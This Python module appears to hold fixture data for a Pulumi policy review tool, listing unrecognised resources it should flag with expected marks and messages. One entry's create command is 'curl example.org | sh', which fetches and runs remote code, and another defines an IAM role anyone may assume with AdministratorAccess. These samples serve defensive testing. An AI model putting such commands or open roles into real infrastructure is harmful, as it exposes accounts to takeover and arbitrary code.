"""What the program makes or deletes, and no rule knows. Not a test."""

from __future__ import annotations

from typing import Any

from policy.resource import Resource


def _made(type_: str, name: str, **inputs: Any) -> Resource:
    return Resource(path=f"{type_}::{name}", type=type_, name=name, inputs=inputs)


# What the program makes beside all else: (stack, resource, marks, words).
ADDED: dict[str, tuple[str, Resource, set[str], tuple[str, ...]]] = {
    "a user of the whole account": (
        "prod",
        _made("aws:iam/user:User", "helper"),
        {"NOT JUDGED"},
        ("helper (aws:iam/user:User, of a type not known here) is made",),
    ),
    "a command of whoever runs Pulumi": (
        "local",
        _made("command:local:Command", "helper", create="curl example.org | sh"),
        {"NOT JUDGED"},
        ("helper (command:local:Command", "curl example.org | sh"),
    ),
    "a role that anybody may take on": (
        "prod",
        _made(
            "aws:iam/role:Role",
            "helper",
            assumeRolePolicy={"Statement": [{"Effect": "Allow", "Principal": "*"}]},
            managedPolicyArns=["arn:aws:iam::aws:policy/AdministratorAccess"],
        ),
        {"OPENS"},
        (
            "helper may be taken on by anyone",
            "helper is allowed arn:aws:iam::aws",
        ),
    ),
    "a container with all that the review has no eye on": (
        "local",
        _made("docker:index/container:Container", "x-container", gpus="all", runtime="x"),
        {"NOT JUDGED", "OPENS", "POLICY"},
        ("x-container: gpus, runtime",),
    ),
}
REMOVED = (_made("aws:ebs/volume:Volume", "store"), _made("aws:s3/bucket:Bucket", "store"))
